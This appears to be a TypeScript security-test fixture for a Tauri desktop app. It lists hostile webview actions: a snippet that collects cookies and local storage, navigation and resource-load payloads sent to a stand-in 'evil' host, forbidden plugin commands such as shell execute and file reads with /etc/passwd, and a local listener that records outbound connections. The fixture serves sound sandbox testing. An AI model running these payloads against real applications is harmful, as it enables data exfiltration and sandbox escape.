/**
 * What a hostile script in the window tries: commands that the window may not call, ways out of the page, and loading
 * resources.
 */
import { createServer, type AddressInfo, type Server } from "node:net";

/** Everything that the page stores, as one text. */
export const PAGE_STATE = `return [document.documentElement.outerHTML, document.cookie, JSON.stringify({ ...localStorage }),
  JSON.stringify({ ...sessionStorage }), location.href, JSON.stringify(window.__TAURI_INTERNALS__?.metadata ?? null)].join("\\n")`;

export const NAVIGATIONS = [
  "location.href = evil;",
  "location.assign(evil);",
  "location.replace('file:///etc/passwd');",
  "location.href = 'data:text/html,<h1>evil</h1>';",
  "location.href = 'javascript:document.write(1)';",
  "location.href = 'org.bursar.desktop://top-up/return?state=' + '0'.repeat(64);",
  "location.href = 'mailto:a@b.example';",
  "window.open(evil);",
  "window.open(evil, '_top');",
  "window.open('about:blank');",
  "const a = document.createElement('a'); a.href = evil; document.body.append(a); a.click();",
  "const a = document.createElement('a'); a.href = evil; a.target = '_blank'; document.body.append(a); a.click();",
  "const a = document.createElement('a'); a.href = evil; a.download = 'x'; document.body.append(a); a.click();",
  "const f = document.createElement('form'); f.action = evil; f.method = 'post'; document.body.append(f); f.submit();",
  "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + evil; document.head.append(m);",
  "const b = document.createElement('base'); b.href = evil; document.head.append(b);",
];

const add = (tag: string, attribute: string, value = "evil + '/' + Math.random()"): string =>
  `const it = document.createElement('${tag}'); it.${attribute} = ${value}; document.body.append(it);`;

export const RESOURCE_LOADS = [
  add("img", "src"),
  add("script", "src"),
  add("iframe", "src"),
  add("embed", "src"),
  add("object", "data"),
  add("video", "src"),
  add("audio", "src"),
  add("div", "style.cssText", "'background:url(' + evil + ')'"),
  "const s = document.createElement('style'); s.textContent = `@import url(${evil}); @font-face{font-family:x;src:url(${evil})} body{font-family:x}`; document.head.append(s);",
  ...["stylesheet", "preload", "prefetch", "preconnect", "dns-prefetch", "modulepreload", "icon", "manifest"].map(
    (rel) =>
      `const l = document.createElement('link'); l.rel = '${rel}'; l.href = evil + '/${rel}'; l.as = 'script'; document.head.append(l);`,
  ),
  "fetch(evil).catch(() => 0); fetch(evil, { mode: 'no-cors' }).catch(() => 0);",
  "const x = new XMLHttpRequest(); x.open('GET', evil); x.send();",
  "new WebSocket(evil.replace('http', 'ws'));",
  "new EventSource(evil);",
  "navigator.sendBeacon(evil, 'x');",
  "import(evil).catch(() => 0);",
  "new Worker(evil); ",
  "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + evil + '\")'])));",
  "navigator.serviceWorker?.register(evil);",
  "new FontFace('y', 'url(' + evil + ')').load().catch(() => 0);",
  "document.body.insertAdjacentHTML('beforeend', '<svg><image href=\"' + evil + '\"/><use href=\"' + evil + '#a\"/></svg>');",
  "const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + new URL(evil).host + '?transport=tcp', username: 'a', credential: 'b' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)).catch(() => 0);",
];

/** The event that carries the app's links, which contain secrets. */
export const LINK_EVENT = "deep-link://new-url";

/** Commands of the framework and of plugins, installed or not. The window may call none of them. */
export const FOREIGN_COMMANDS = [
  ...["listen", "unlisten", "emit", "emit_to"].map((one) => `plugin:event|${one}`),
  ...[
    "version",
    "name",
    "tauri_version",
    "identifier",
    "app_show",
    "app_hide",
    "set_app_theme",
    "default_window_icon",
    "fetch_data_store_identifiers",
    "remove_data_store",
    "register_listener",
    "bundle_type",
  ].map((one) => `plugin:app|${one}`),
  ...["resolve_directory", "resolve", "join", "normalize", "dirname", "is_absolute"].map((one) => `plugin:path|${one}`),
  ...[
    "create",
    "get_all_windows",
    "close",
    "destroy",
    "hide",
    "show",
    "set_title",
    "set_size",
    "set_position",
    "set_fullscreen",
    "set_always_on_top",
    "set_icon",
    "start_dragging",
    "scale_factor",
    "set_focus",
    "internal_toggle_maximize",
  ].map((one) => `plugin:window|${one}`),
  ...[
    "create_webview",
    "create_webview_window",
    "get_all_webviews",
    "webview_close",
    "reparent",
    "set_webview_zoom",
    "clear_all_browsing_data",
    "internal_toggle_devtools",
    "print",
  ].map((one) => `plugin:webview|${one}`),
  ...["new", "append", "items", "popup", "create_default", "set_as_app_menu"].map((one) => `plugin:menu|${one}`),
  ...["new", "get_by_id", "remove_by_id", "set_icon", "set_menu", "set_title"].map((one) => `plugin:tray|${one}`),
  ...["new", "rgba", "size", "from_path", "from_bytes"].map((one) => `plugin:image|${one}`),
  "plugin:resources|close",
  ...["get_current", "register", "unregister", "is_registered"].map((one) => `plugin:deep-link|${one}`),
  ...["open", "save", "message", "ask", "confirm"].map((one) => `plugin:dialog|${one}`),
  ...["load", "get_store", "set", "get", "has", "delete", "clear", "keys", "values", "entries", "reload", "save"].map(
    (one) => `plugin:store|${one}`,
  ),
  ...["save_window_state", "restore_state", "filename"].map((one) => `plugin:window-state|${one}`),
  ...["read_file", "read_text_file", "write_file", "read_dir", "remove", "mkdir"].map((one) => `plugin:fs|${one}`),
  ...["open", "execute", "spawn"].map((one) => `plugin:shell|${one}`),
  ...["open_url", "open_path", "reveal_item_in_dir"].map((one) => `plugin:opener|${one}`),
  "plugin:http|fetch",
  "plugin:process|exit",
  "plugin:process|restart",
  "plugin:os|platform",
  "plugin:clipboard-manager|read_text",
  "plugin:notification|notify",
  "plugin:updater|check",
  "plugin:sql|select",
  "eval",
  "tauri",
  "core",
  "vault",
  "keyring",
  "read_secret",
  "open",
  "link",
  "open_link",
  "__proto__",
  "",
];
export const FOREIGN_ARGUMENTS = {
  path: "/etc/passwd",
  url: "https://evil.example/",
  label: "main",
  event: LINK_EVENT,
  target: { kind: "Any" },
  handler: 1,
  eventId: 1,
  protocol: "org.bursar.desktop",
  payload: {},
  options: {},
  value: 1,
};

/** Records every connection. */
export class ConnectionRecorder {
  /** The first line sent on each connection; empty if nothing was sent. */
  readonly received: string[] = [];
  readonly #server: Server;

  private constructor() {
    this.#server = createServer((socket) => {
      const index = this.received.push("") - 1;
      socket.on("data", (data) => (this.received[index] += data.toString("latin1").split("\r\n")[0] ?? ""));
      socket.on("error", () => undefined);
    });
    this.#server.unref();
  }

  static async start(): Promise<ConnectionRecorder> {
    const listener = new ConnectionRecorder();
    await new Promise<void>((resolve) => listener.#server.listen(0, "127.0.0.1", resolve));
    return listener;
  }

  get address(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  end(): void {
    this.#server.close();
  }
}
